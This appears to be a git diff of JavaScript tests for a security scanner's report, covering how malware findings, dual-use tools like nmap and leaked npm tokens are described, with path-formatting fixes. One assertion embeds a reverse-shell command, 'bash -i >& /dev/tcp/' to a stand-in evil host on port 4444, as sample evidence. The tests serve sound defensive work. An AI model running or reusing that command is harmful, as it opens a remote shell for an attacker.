@@ -35,7 +35,7 @@ test('each accusation is told with its evidence, and what to do once', () => {
   const text = textOf([malware('malicious', 'a'), malware('malicious', 'b'), malware('suspicious', 'c')]);
   assert.match(text, /^ {2}MALICIOUS {2}Reverse shell: \/a$/m);
   assert.match(text, /^ {4}\/a runs: it connects to 192\[\.\]0\[\.\]2\[\.\]1:4444\.$/m);
-  assert.match(text, /^ {4}a \(layer 0\): bash -i >& \/dev\/tcp\/evil\[\.\]example\/4444$/m);
+  assert.match(text, /^ {4}\/a \(layer 0\): bash -i >& \/dev\/tcp\/evil\[\.\]example\/4444$/m);
   assert.deepEqual(text.match(/What to do: .*/g), [
     'What to do: Act on what is malicious.',
     'What to do: Act on what is suspicious.',
@@ -44,7 +44,7 @@ test('each accusation is told with its evidence, and what to do once', () => {
 
 test('tools are named, and nobody is accused for them', () => {
   const text = textOf([malware('dual-use', 'usr/bin/nmap')]);
-  assert.match(text, /^Dual-use tools\n {2}usr\/bin\/nmap\n {2}.*accuses nobody\.$/m);
+  assert.match(text, /^Dual-use tools\n {2}\/usr\/bin\/nmap\n {2}.*accuses nobody\.$/m);
   assert.doesNotMatch(text, /What to do/);
 });
 
@@ -55,7 +55,7 @@ test('a secret is told with its kind and place, each once', () => {
     rule: 'secret/npm-token',
     severity: 'high',
     title: 'Secret in /root/x: y/.npmrc in layer 1, which a later layer hides but does not remove: npm token',
-    evidence: [{ path: '/root/x: y/.npmrc', layer: 1, line: 3, excerpt: 'npm_…abcd' }],
+    evidence: [{ path: 'root/x: y/.npmrc', layer: 1, line: 3, excerpt: 'npm_…abcd' }],
     hidden: true,
   };
   assert.match(
